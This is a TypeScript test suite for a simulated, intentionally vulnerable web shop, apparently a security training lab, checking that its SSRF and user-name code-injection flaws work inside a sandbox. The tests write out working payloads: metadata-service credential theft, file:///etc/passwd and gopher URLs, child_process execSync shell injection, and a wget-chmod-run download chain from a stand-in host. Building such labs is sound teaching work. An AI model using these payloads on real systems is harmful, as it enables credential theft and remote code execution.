import { documentServed } from '@fruit/shop/files/facts'
import { commandRun, pageFetched, roleTokenUsed } from '@fruit/shop/machine/facts'
import { pictureAddressSent } from '@fruit/shop/profile/facts'
import { fetchPicture, fillUserName } from '@fruit/shop/profile/seams'
import type { RunScript } from '@fruit/shop/scripts/run-script'
import type { Client } from '@fruit/world/visits/client'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { listenTo } from '../../support/fact-listener.ts'
import { flawedLearner } from '../../support/flawed-learner.ts'
import { postForm } from '../../support/form-calls.ts'
import { createMember, rowsOf } from '../../support/members.ts'
import { openTestApp, type TestApp } from '../../support/test-app.ts'
import { flaw } from '../../support/unchecked-picture.ts'

const facts = listenTo(commandRun, pageFetched, roleTokenUsed, pictureAddressSent, documentServed)
let testApp: TestApp
beforeAll(async () => {
  testApp = await openTestApp({ shop: 'safe', catalogue: facts.catalogue })
})
afterAll(() => testApp.close())

/** Runs the code between `#{` and `}` in a name. */
const runningNames = async (name: string, run: RunScript) => {
  const code = /^#\{([\s\S]*)\}$/.exec(name)?.[1]
  if (code === undefined) return name
  const outcome = await run(code)
  return outcome.kind === 'value' ? String(outcome.value) : `\\${name}`
}

const createVulnerableLearner = () => flawedLearner(testApp, [fetchPicture, flaw], [fillUserName, runningNames])

/** The response that the shop fetches from a URL for a customer. */
async function fetched(client: Client, id: number, imageUrl: string): Promise<string> {
  expect((await postForm(client, '/profile/image/url', { imageUrl })).status).toBe(302)
  return (await client.get(`/assets/public/images/uploads/${id}.jpg`)).text
}

async function shown(client: Client, code: string): Promise<string> {
  await postForm(client, '/profile', { username: `#{${code}}` })
  return /class="user-name">([\s\S]*?)<\/p>/.exec((await client.get('/profile')).text)![1]!
}

describe('a shop that fetches any URL', () => {
  it('exposes role credentials by the metadata service, which give a valid voucher', async () => {
    const learner = createVulnerableLearner()
    const { client, id } = await createMember(learner)
    const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
    const role = await fetched(client, id, base)
    const credentials = JSON.parse(await fetched(client, id, base + role))
    expect(await fetched(client, id, 'http://cellar.internal/notice.txt')).toContain('till.internal')
    const voucher = await fetched(client, id, `http://till.internal/voucher?token=${credentials.Token}`)
    const code = /: (\S{10})$/m.exec(voucher)![1]!
    const baskets = rowsOf<{ id: number; UserId: number }>(learner, 'Baskets')
    const basketId = baskets.find(({ UserId }) => UserId === id)!.id
    const taken = await client.put(`/rest/basket/${basketId}/coupon/${encodeURIComponent(code)}`)
    expect(taken.json()).toEqual({ discount: 15 })
    expect(facts.heardFrom(learner).some(({ fact }) => fact === roleTokenUsed.name)).toBe(true)
  })

  it('has different credentials in another world', async () => {
    const address = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/fruit-shop-press'
    const [one, other] = await Promise.all(
      [createVulnerableLearner(), createVulnerableLearner()].map(async (learner) => {
        const { client, id } = await createMember(learner)
        return JSON.parse(await fetched(client, id, address)).Token
      }),
    )
    expect(one).not.toBe(other)
  })

  it('reaches the hosts of the simulated internet', async () => {
    const { client, id } = await createMember(createVulnerableLearner())
    expect(await fetched(client, id, 'http://chirp.example/forbiddenfruit.html')).toContain('Forbidden Fruit on Chirp')
  })

  it('calls itself without a socket, within the same visit', async () => {
    const learner = createVulnerableLearner()
    const { client, id } = await createMember(learner)
    facts.heardFrom(learner)
    expect(await fetched(client, id, 'http://localhost:3000/ftp/legal.md')).toContain('Legal notice')
    const names = facts.heardFrom(learner).map(({ fact }) => fact)
    expect(names).toEqual([documentServed.name, pageFetched.name, pictureAddressSent.name])
  })

  it('keeps the URL as a link when the request fails', async () => {
    const learner = createVulnerableLearner()
    const { client } = await createMember(learner)
    for (const imageUrl of [
      'http://example.com/a.jpg',
      'file:///etc/passwd',
      'gopher://localhost:3000/_GET',
      'nonsense',
    ])
      expect((await postForm(client, '/profile/image/url', { imageUrl })).status).toBe(302)
    const failures = facts.heardFrom(learner).flatMap(({ fact, data }) => (fact === pageFetched.name ? [data] : []))
    expect(failures.map((data) => (data as { failure: string }).failure)).toEqual([
      'ENOTFOUND',
      'EPROTO',
      'EPROTO',
      'EINVAL',
    ])
  })

  it('does not call itself recursively without limit', async () => {
    const learner = createVulnerableLearner()
    const { client, token } = await createMember(learner)
    const again = `curl -s -H 'cookie: token=${token}' http://localhost:3000/profile`
    await postForm(client, '/profile', { username: `#{require('child_process').execSync("${again}")}` })
    expect((await client.get('/profile')).status).toBe(200)
  })
})

describe('a shop that runs code in user names', () => {
  it('evaluates expressions', async () => {
    const { client } = await createMember(createVulnerableLearner())
    expect(await shown(client, '7*7')).toBe('49')
  })

  it('gives the usual shell exploit a simulated shell', async () => {
    const learner = createVulnerableLearner()
    const { client } = await createMember(learner)
    const exec = (command: string) =>
      shown(
        client,
        `global.process.mainModule.require('child_process').execSync(${JSON.stringify(command)}).toString()`,
      )
    expect(await exec('id; cat /etc/hostname')).toMatch(/^uid=1000\(juicer\)[\s\S]*orchard/)
    expect(await exec('ls -a /home/bjoern')).toContain('.bash_history')
    expect(await exec('curl -s http://cellar.internal/inventory.txt')).toContain('Shelf 1')
    expect(facts.heardFrom(learner).filter(({ fact }) => fact === commandRun.name).length).toBeGreaterThanOrEqual(3)
  })

  it('can download and run a program that calls the shop', async () => {
    const learner = createVulnerableLearner()
    learner.inside(({ files }) =>
      files.write(
        '/net/pips.example/press',
        Buffer.from('#!/bin/bash\ncurl -s "http://localhost:3000/ftp/legal.md"\n'),
      ),
    )
    const { client } = await createMember(learner)
    const command = 'wget -qO press http://pips.example/press?raw=true && chmod +x press && ./press'
    expect(await shown(client, `require('child_process').exec('${command}')`)).toBe('[object Object]')
    expect(facts.heardFrom(learner).map(({ fact }) => fact)).toEqual(
      expect.arrayContaining([documentServed.name, pageFetched.name, commandRun.name]),
    )
    expect(learner.inside(({ files }) => files.read('/press'))).toBeDefined()
  })

  it('keeps changes of a command in its own world', async () => {
    const [one, other] = [createVulnerableLearner(), createVulnerableLearner()]
    const { client } = await createMember(one)
    await shown(client, `require('child_process').execSync('echo mine > /ftp/legal.md; rm /etc/motd')`)
    const legal = async (learner: typeof one) => (await learner.client().get('/ftp/legal.md')).text
    expect(await legal(one)).toBe('mine\n')
    expect(one.inside(({ files }) => files.read('/etc/motd'))).toBeUndefined()
    expect(await legal(other)).toContain('Legal notice')
  })

  it('limits the length of names', async () => {
    const learner = createVulnerableLearner()
    const { client } = await createMember(learner)
    const long = 'a'.repeat(256)
    const write = `try { require('fs').writeFileSync('/${long}', 'x') } catch (error) { error.code }`
    expect(await shown(client, write)).toContain('ENAMETOOLONG')
    const command = `require('child_process').spawnSync('sh', ['-c', 'echo x > /' + 'a'.repeat(256)]).stderr.toString()`
    expect(await shown(client, command)).toContain('File name too long')
  })

  it('enforces the storage limit', async () => {
    const learner = createVulnerableLearner()
    learner.inside(({ files }) => files.write('/big', new Uint8Array(32 * 1024 * 1024)))
    const { client } = await createMember(learner)
    const code = `require('child_process').spawnSync('sh', ['-c', 'echo x > /more']).stderr.toString()`
    expect(await shown(client, code)).toContain('No space left')
  })
})
